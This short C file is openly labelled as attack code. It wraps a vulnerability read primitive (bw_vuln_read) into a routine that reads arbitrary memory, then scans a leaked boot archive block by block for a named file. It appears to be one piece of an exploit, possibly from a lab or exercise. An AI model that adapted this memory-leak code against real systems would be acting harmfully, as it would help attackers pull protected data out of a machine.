/* The boot archive, as an attacker reads it. */
#include <string.h>

#include "attack.h"

enum { BLOCK_BYTES = 512, NAME_MAX_BYTES = 100 };

void attack_read(uint64_t from, void *to, size_t nr_bytes)
{
	for (size_t at = 0; at < nr_bytes; at += sizeof(uint64_t)) {
		uint64_t word = (uint64_t)bw_vuln_read(from + at);

		memcpy((char *)to + at, &word,
		       nr_bytes - at < sizeof(word) ? nr_bytes - at : sizeof(word));
	}
}

uint64_t attack_archive_find(const struct bw_leak *leak, const char *name)
{
	char found[NAME_MAX_BYTES];
	size_t len = strlen(name) + 1;

	for (uint64_t at = 0; len <= sizeof(found) && at < leak->archive_bytes; at += BLOCK_BYTES) {
		attack_read(leak->archive + at, found, len);
		if (memcmp(found, name, len) == 0) {
			return at + BLOCK_BYTES;
		}
	}
	return 0;
}
